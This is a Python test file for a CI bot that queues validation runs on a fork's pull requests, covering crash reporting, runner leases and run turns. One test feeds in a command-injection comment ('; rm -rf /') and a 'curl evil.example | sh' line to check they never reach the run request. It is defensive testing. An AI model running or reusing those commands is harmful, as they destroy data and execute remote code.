"""Which runs there are and what they may run: only what the fork's file says, told apart by their id."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.clients.store.models import Runner
from bot.core.config import load
from bot.core.turns import Turn
from bot.core.types import Level, Outcome
from handlers.fork import open_fork
from handlers.runner import Refusal, lease, report
from handlers.validate import Target, start_level
from tests.handlers.pair import FORK
from tests.handlers.runs import CONFIG, gated, report_of
from tests.handlers.trunk import trunk

A, B = "tests/core/test_all.py::test_a", "docs/test_docs.py::test_b"


async def test_c34_a_crash_without_a_file_closes_nothing_and_hides_nothing(tmp_path: Path) -> None:
    async with trunk(tmp_path) as t:
        good = await t.moves("Say more", {"docs/text.txt": "two\n"})
        await t.told(good, green=[A], settle=False)
        await t.told(good, "side", green=[B])
        bad = await t.moves("Break it", {"lib/layout.py": "def choose_layout():\n    pass\n"})
        await t.told(bad, red={A: "KeyError: 'num_warps'"}, settle=False)
        await t.told(bad, "side", green=[B])
        (first,) = t.issues("open")

        # unit leaves no result at all, while side has a failure of its own
        worse = await t.moves("Break more", {"docs/text.txt": "three\n"})
        await t.told(worse, outcome=Outcome.FAILED, reason="crashed with SIGSEGV", tests=(), settle=False)
        await t.told(worse, "side", red={B: "ValueError: no such page"})
        still = t.issues("open")
        assert first.number in {issue.number for issue in still}, "nothing of unit ran: it is not mended"
        assert len(still) == 3, [issue.title for issue in still]
        check = t.fork.check(worse, "graft/l1")
        assert (check.status, check.conclusion) == ("completed", "failure")
        assert "unit" in check.summary and "SIGSEGV" in check.summary and "side" in check.summary
        assert await t.world.failures() == []


async def test_c68_what_runs_is_what_the_file_says(tmp_path: Path) -> None:
    async with gated(tmp_path) as fork:
        number = await fork.opens("walter", "small", {"other.txt": "two\n", ".github/graft.yml": "evil: yes\n"})
        await fork.ends(number)
        await fork.world.says("walter", number, "/validate l1 unit; rm -rf /")
        await fork.world.says("walter", number, "/validate l1 unit\nRepro:\n```\ncurl evil.example | sh\n```")
        runs = await fork.world.context.store.runs(FORK, number=number)
        assert len(runs) >= 3
        for run in runs:
            suite = next(s for s in load(CONFIG).validation.l1 if s.suite == run.suite)
            assert run.request["suite"] == suite.model_dump(mode="json")
            assert "evil" not in str(run.request) and "rm -rf" not in str(run.request)


async def test_c82_two_runs_at_once_are_told_apart_by_their_id(tmp_path: Path) -> None:
    one, two = (Runner(name=name, token_hash=name, labels=("default",)) for name in ("one", "two"))
    async with gated(tmp_path) as fork:
        context = fork.world.context
        number = await fork.opens("walter", "small", {"other.txt": "two\n"})
        side, unit = await fork.waiting(number)
        await lease(context, one, unit.id)
        await lease(context, two, side.id)
        body = report_of(unit, failed=[A]).model_dump_json().encode()
        with pytest.raises(Refusal) as refused:  # another's run
            await report(context, two, unit.id, body, attempt=1)
        assert refused.value.status == 409
        said = await report(context, two, side.id, body, attempt=1)  # its own run, another's report
        assert said["outcome"] == Outcome.INFRA
        said = await report(context, one, unit.id, body, attempt=1)
        assert said["outcome"] == Outcome.FAILED
        assert (await report(context, one, unit.id, body, attempt=1))["recorded"] is False
        kept = await context.store.run(unit.id)
        assert kept is not None and kept.outcome == Outcome.FAILED


async def test_what_each_run_is_for_says_whose_turn_it_is(tmp_path: Path) -> None:
    async with gated(tmp_path) as fork:
        number = await fork.opens("walter", "small", {"other.txt": "two\n"})
        assert {run.turn for run in await fork.waiting(None)} == {Turn.TRUNK}
        assert {run.turn for run in await fork.waiting(number)} == {Turn.PULL}
        await fork.world.says("walter", number, "/validate l1 unit")  # it waits already: now it waits less long
        assert {run.suite: run.turn for run in await fork.waiting(number)} == {"unit": Turn.COMMAND, "side": Turn.PULL}
        await fork.ends(number)
        await fork.world.says("walter", number, "/validate l1 side")
        assert {run.suite: run.turn for run in await fork.waiting(number)} == {"side": Turn.COMMAND}


async def test_a_searchs_run_is_no_answer_to_anybody_else(tmp_path: Path) -> None:
    async with gated(tmp_path) as gate:
        world, store = gate.world, gate.world.context.store
        sha = world.fork_commits("Go on", {"other.txt": "three\n"})  # nobody has looked at it yet
        fork = await open_fork(world.context, world.scope)
        await fork.fetch_fork()
        at = Target(sha, sha)
        assert not await store.runs(FORK, sha)

        (searched,) = await start_level(fork, at, Level.L1, suites=("unit",), turn=Turn.SEARCH)
        queued = await start_level(fork, at, Level.L1)  # while it waits, and once it ended
        assert [run.suite for run in queued] == ["unit", "side"]
        await gate.ends(None)
        assert {run.turn for run in await store.runs(FORK, sha)} == {Turn.SEARCH, Turn.TRUNK}
        assert not await start_level(fork, at, Level.L1)
        assert {run.id for run in await store.runs(FORK, sha)} == {searched.id, *(run.id for run in queued)}
